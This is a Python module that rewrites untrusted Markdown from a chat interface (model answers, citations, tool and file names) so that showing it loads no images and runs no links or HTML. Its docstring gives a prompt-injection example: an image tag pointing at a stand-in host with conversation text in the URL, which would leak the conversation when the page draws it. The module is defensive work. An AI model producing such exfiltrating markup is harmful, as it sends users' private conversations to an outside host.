"""Markdown from untrusted sources, rewritten so that the browser fetches and runs nothing.

Model answers, reasoning, refusals, server error messages, citation titles and
URLs, file names and tool names all reach the page as Markdown, and the page's
Markdown renderer would load any image it names from any host: a prompt-injected
`![s](https://collector.example/p.png?d=<conversation text>)` leaks the
conversation to that host the moment it is shown, for every viewer, again on
every reopening. So every text painted as Markdown goes through `inert` first:

- it is parsed (markdown-it, CommonMark + tables + strikethrough, plus `$` math
  spans as the page's renderer reads them) and written back as Markdown from
  the token stream, every piece of text escaped;
- an image (inline, reference-style, inside tables, lists, quotes or links)
  becomes a link the user may open, with the host visible:
  `🖼 alt (collector.example)`; an image whose address is not http(s) becomes
  that text alone;
- links keep only `http`, `https` and `mailto` addresses; any other link
  (`javascript:`, `data:`, relative) becomes its text; a protocol-relative
  address (`//host/x`) is read as `https://host/x`;
- raw HTML (inline or blocks) is shown as the text it is;
- reference definitions are resolved by the parser and never written back, so
  each painted string stands alone: a definition that arrives later (while an
  answer streams) only changes what the next paint of that same string shows.
- a single line break inside a paragraph (a soft break, which Markdown would
  join into a space) is written as a hard break (`\\` at the end of the line),
  as ChatGPT shows answers: a poem or an address keeps its lines. Lists,
  tables, headings, quotes and code stay what they are (code is verbatim); a
  break next to math that spans lines stays soft, since the page's renderer
  may read its `$$` lines as a display block, which a `\\` would break.

Code (spans, fenced and indented blocks) and math spans are written back
verbatim, inside delimiters long enough that their content cannot close them.
What is lost: Streamlit's own bracket directives (`:red[...]`, badges) in
untrusted text show as typed; footnotes (`[^1]`) show as typed.

`literal(text)` is the other half: a name (file, tool, conversation title, a
user's name or e-mail) shown as exactly that text in a label that renders
Markdown, never a link: the page also turns bare addresses into links
(`http://…`, `www.…`, after escapes are read), so a word joiner (U+2060,
invisible) goes between `:` and `//` and after `www`; `link(text, url)` a
citation's title linked to its address under the same rules; `code_span(text)`
inline code that no backtick in `text` can end.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from urllib.parse import urlsplit

from markdown_it import MarkdownIt
from markdown_it.rules_inline import StateInline
from markdown_it.token import Token

__all__ = ["LINK_SCHEMES", "WORD_JOINER", "code_span", "inert", "link", "literal"]

LINK_SCHEMES = ("http", "https", "mailto")
IMAGE_MARK = "🖼"

# Everything CommonMark or GFM could read as syntax, escaped wherever it appears.
_ALWAYS = re.compile(r"([\\`*\[\]<|~$!#])")
# Syntax only at the start of a line: quotes, list items, setext underlines.
_LINE_START = re.compile(r"^([ \t]*)(?:([>+\-=])|(\d{1,9})([.)]))", re.MULTILINE)
# `&` only where it would start an entity.
_ENTITY = re.compile(r"&(?=#?[A-Za-z0-9]+;)")
# `_` can open or close emphasis unless letters or digits are on both sides.
_UNDERSCORE = re.compile(r"(?<![A-Za-z0-9])_|_(?![A-Za-z0-9])")
_LABEL_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$&:=])")
_FENCE_INFO = re.compile(r"[\w+#.-]*")


def _math(state: StateInline, silent: bool) -> bool:
    """`$...$` and `$$...$$` spans, read as the page's renderer (remark-math) reads
    them: like code spans, a run of dollars closed by a run of the same length."""
    start = state.pos
    src = state.src
    if src[start] != "$":
        return False
    pos = start + 1
    while pos < state.posMax and src[pos] == "$":
        pos += 1
    marker = src[start:pos]
    runs: dict[int, int] | None = getattr(state, "_dollar_runs", None)
    if runs is None:  # where each run length last occurs: one scan per inline text
        runs = {}
        scan = 0
        while (found := src.find("$", scan)) != -1:
            scan = found + 1
            while scan < len(src) and src[scan] == "$":
                scan += 1
            runs[scan - found] = found
        state._dollar_runs = runs  # type: ignore[attr-defined]
    if runs.get(len(marker), -1) >= pos:
        end = pos
        while (found := src.find("$", end)) != -1 and found < state.posMax:
            end = found + 1
            while end < len(src) and src[end] == "$":
                end += 1
            if end > state.posMax:
                break
            if end - found == len(marker):
                if not silent:
                    token = state.push("math_inline", "math", 0)
                    token.markup = marker
                    token.content = src[pos:found]
                state.pos = end
                return True
    if not silent:
        state.append_pending(marker)
    state.pos = pos
    return True


def _parser() -> MarkdownIt:
    md = MarkdownIt("commonmark").enable("table").enable("strikethrough")
    md.inline.ruler.after("backticks", "math", _math)
    # Every destination is parsed as a link or image, so that this module (not the
    # parser's own list) decides what stays clickable and nothing is left for the
    # page's renderer to read as a link that this parser read as text.
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    return md


_md = _parser()


# Where the page's Markdown (GFM) would start a bare link: `scheme://`, `www.`.
_AUTOLINK = re.compile(r"(?<=:)(?=//)|(?<=\bwww)(?=\.)", re.IGNORECASE)
WORD_JOINER = "\u2060"


def literal(text: str) -> str:
    """`text` shown as exactly itself on one line, in any label that renders Markdown."""
    text = _AUTOLINK.sub(WORD_JOINER, " ".join(text.split()))
    return _LABEL_SPECIAL.sub(r"\\\1", text)


def code_span(text: str) -> str:
    """`text` as inline code, however many backticks it holds."""
    text = " ".join(text.splitlines())
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if text[:1] in ("`", " ") or text[-1:] in ("`", " ") else ""
    if text.strip(" ") == "":
        pad = ""
    return f"{fence}{pad}{text}{pad}{fence}"


def _line_starts(text: str) -> str:
    """Escape what would start a block at the beginning of a line."""

    def escape(m: re.Match[str]) -> str:
        if m.group(2):
            return f"{m.group(1)}\\{m.group(2)}"
        return f"{m.group(1)}{m.group(3)}\\{m.group(4)}"

    return _LINE_START.sub(escape, text)


def _text(text: str) -> str:
    text = _ALWAYS.sub(r"\\\1", text)
    text = _ENTITY.sub(r"\\&", text)
    return _UNDERSCORE.sub(r"\\_", text)


def _absolute(url: str) -> str:
    """An address as the browser reads it: `//host/x` is https, and `https:host/x`
    (no slashes) is `https://host/x`."""
    if url.startswith("//"):
        return "https:" + url
    match = re.match(r"(?i)(https?):/?(?!/)", url)
    return f"{match.group(1)}://{url[match.end() :]}" if match else url


def _scheme(url: str) -> str:
    match = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", url)
    return match.group(1).lower() if match else ""


def _host(url: str) -> str:
    try:
        return urlsplit(url).hostname or ""
    except ValueError:
        return ""


def _destination(url: str) -> str:
    """A link destination that cannot end early: `<...>` with the brackets encoded."""
    return "<" + url.replace("<", "%3C").replace(">", "%3E").replace("\n", "%0A") + ">"


def link(text: str, url: str) -> str:
    """`text` (shown literally) linked to `url`, or the text alone if `url` is not
    an http, https or mailto address."""
    url = _absolute(url.strip())
    label = literal(text)
    if _scheme(url) not in LINK_SCHEMES or not label:
        return label
    return f"[{label}]({_destination(_md.normalizeLink(url))})"


def _title(tok: Token) -> str:
    title = str(tok.attrGet("title") or "")
    if not title:
        return ""
    return ' "' + title.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _multiline_math(tokens: Sequence[Token], i: int) -> bool:
    """Whether `tokens[i]` is math that spans lines (its `$$` may stand on lines of their own)."""
    return 0 <= i < len(tokens) and tokens[i].type == "math_inline" and "\n" in tokens[i].content


class _Writer:
    """Markdown from markdown-it's token stream, with every risky construct defused."""

    def inline(
        self,
        tokens: Sequence[Token],
        *,
        in_link: bool = False,
        cell: bool = False,
        breaks: bool = False,
    ) -> str:
        """Inline tokens as Markdown; with `breaks`, soft line breaks become hard ones."""
        out: list[str] = []
        i = 0
        while i < len(tokens):
            tok = tokens[i]
            kind = tok.type
            if kind == "text":
                out.append(_text(tok.content))
            elif kind == "softbreak":
                hard = breaks and not (
                    _multiline_math(tokens, i - 1) or _multiline_math(tokens, i + 1)
                )
                out.append("\\\n" if hard else "\n")
            elif kind == "hardbreak":
                out.append("\\\n")
            elif kind == "code_inline":
                span = code_span(tok.content)
                out.append(span.replace("|", "\\|") if cell else span)
            elif kind == "math_inline":
                # Should the page's renderer not read this as math, an image or link
                # in it would be live: such a span is shown as escaped text instead.
                if "![" in tok.content or "](" in tok.content:
                    out.append(_text(tok.markup + tok.content + tok.markup))
                else:
                    out.append(tok.markup + tok.content + tok.markup)
            elif kind in ("em_open", "em_close"):
                out.append("*")
            elif kind in ("strong_open", "strong_close"):
                out.append("**")
            elif kind in ("s_open", "s_close"):
                out.append("~~")
            elif kind in ("html_inline", "html_block"):
                out.append(_text(tok.content))
            elif kind == "image":
                out.append(self.image(tok, in_link=in_link, cell=cell))
            elif kind == "link_open":
                depth, j = 1, i + 1
                while j < len(tokens) and depth:
                    depth += {"link_open": 1, "link_close": -1}.get(tokens[j].type, 0)
                    j += 1
                inner = self.inline(tokens[i + 1 : j - 1], in_link=True, cell=cell, breaks=breaks)
                href = _absolute(str(tok.attrGet("href") or ""))
                if not in_link and _scheme(href) in LINK_SCHEMES and inner.strip():
                    out.append(f"[{inner}]({_destination(href)}{_title(tok)})")
                else:
                    out.append(inner)
                i = j
                continue
            elif kind == "link_close":
                pass
            else:  # anything this writer does not know is shown as its text
                out.append(_text(tok.content))
            i += 1
        return "".join(out)

    def image(self, tok: Token, *, in_link: bool, cell: bool) -> str:
        alt = self.inline(tok.children or [], in_link=True, cell=cell).replace("\n", " ")
        src = _absolute(str(tok.attrGet("src") or ""))
        host = _host(src) if _scheme(src) in ("http", "https") else ""
        label = f"{IMAGE_MARK} {alt}".rstrip()
        if not host:
            return label
        label += f" ({_text(host)})"
        return label if in_link else f"[{label}]({_destination(src)})"

    def blocks(self, tokens: Sequence[Token], *, tight: bool = False) -> list[str]:
        """The top-level blocks of `tokens`, each as Markdown."""
        out: list[str] = []
        i = 0
        while i < len(tokens):
            tok = tokens[i]
            if tok.nesting == 1:
                j = self._close(tokens, i)
                out.append(self.container(tok, tokens[i + 1 : j], tight=tight))
                i = j + 1
                continue
            if tok.type == "fence" or tok.type == "code_block":
                out.append(self.code(tok))
            elif tok.type == "hr":
                out.append("---")
            elif tok.type == "html_block":
                lines = tok.content.rstrip("\n").split("\n")
                out.append("\\\n".join(_line_starts(_text(line)) for line in lines))
            elif tok.type == "inline":
                out.append(self.paragraph(tok))
            i += 1
        return [b for b in out if b]

    @staticmethod
    def _close(tokens: Sequence[Token], i: int) -> int:
        depth = 0
        for j in range(i, len(tokens)):
            depth += tokens[j].nesting
            if depth == 0:
                return j
        return len(tokens) - 1

    def paragraph(self, tok: Token) -> str:
        return _line_starts(self.inline(tok.children or [], breaks=True))

    def code(self, tok: Token) -> str:
        body = tok.content if tok.content.endswith("\n") or not tok.content else tok.content + "\n"
        char = "~" if tok.markup.startswith("~") else "`"
        runs = re.findall(rf"^ {{0,3}}({re.escape(char)}+)", body, re.MULTILINE)
        fence = char * max(3, max((len(r) for r in runs), default=0) + 1)
        info = _FENCE_INFO.match(tok.info.strip())
        return f"{fence}{info.group(0) if info else ''}\n{body}{fence}"

    def container(self, tok: Token, inner: Sequence[Token], *, tight: bool) -> str:
        kind = tok.type
        if kind == "paragraph_open":
            return "".join(self.paragraph(t) for t in inner if t.type == "inline")
        if kind == "heading_open":
            text = "".join(self.inline(t.children or []) for t in inner if t.type == "inline")
            return "#" * int(tok.tag[1:]) + " " + text.replace("\\\n", " ").replace("\n", " ")
        if kind == "blockquote_open":
            body = "\n\n".join(self.blocks(inner))
            return "\n".join("> " + line if line else ">" for line in body.split("\n"))
        if kind in ("bullet_list_open", "ordered_list_open"):
            return self.list(tok, inner)
        if kind == "table_open":
            return self.table(inner)
        return "\n\n".join(self.blocks(inner))

    def list(self, tok: Token, inner: Sequence[Token]) -> str:
        items: list[str] = []
        tight = not any(
            t.type == "paragraph_open" and t.level == tok.level + 2 and not t.hidden for t in inner
        )
        number = int(tok.attrGet("start") or 1) if tok.type == "ordered_list_open" else 0
        i = 0
        while i < len(inner):
            if inner[i].type != "list_item_open":
                i += 1
                continue
            j = self._close(inner, i)
            item = inner[i]
            if tok.type == "ordered_list_open":
                marker = f"{number}{item.markup or '.'} "
                number += 1
            else:
                marker = f"{item.markup or '-'} "
            body = ("\n" if tight else "\n\n").join(self.blocks(inner[i + 1 : j], tight=tight))
            lines = body.split("\n")
            pad = " " * len(marker)
            text = "\n".join(
                [marker + lines[0]] + [pad + line if line else "" for line in lines[1:]]
            )
            items.append(text.rstrip() if body else marker.rstrip())
            i = j + 1
        return ("\n" if tight else "\n\n").join(items)

    def table(self, inner: Sequence[Token]) -> str:
        rows: list[list[str]] = []
        aligns: list[str] = []
        row: list[str] = []
        for t in inner:
            if t.type == "tr_open":
                row = []
            elif t.type == "tr_close":
                rows.append(row)
            elif t.type in ("th_open", "td_open"):
                if t.type == "th_open":
                    aligns.append(str(t.attrGet("style") or ""))
            elif t.type == "inline":
                row.append(self.inline(t.children or [], cell=True).replace("\n", " "))
        if not rows:
            return ""
        width = len(rows[0])
        delimiters = []
        for style in aligns[:width]:
            left = "left" in style or "center" in style
            right = "right" in style or "center" in style
            delimiters.append((":" if left else "") + "---" + (":" if right else ""))
        lines = ["| " + " | ".join(rows[0]) + " |", "| " + " | ".join(delimiters) + " |"]
        lines += ["| " + " | ".join(r) + " |" for r in rows[1:]]
        return "\n".join(lines)


def inert(markdown: str) -> str:
    """`markdown` rewritten so that showing it makes the browser fetch and run nothing."""
    if not markdown:
        return markdown
    return "\n\n".join(_Writer().blocks(_md.parse(markdown, {})))
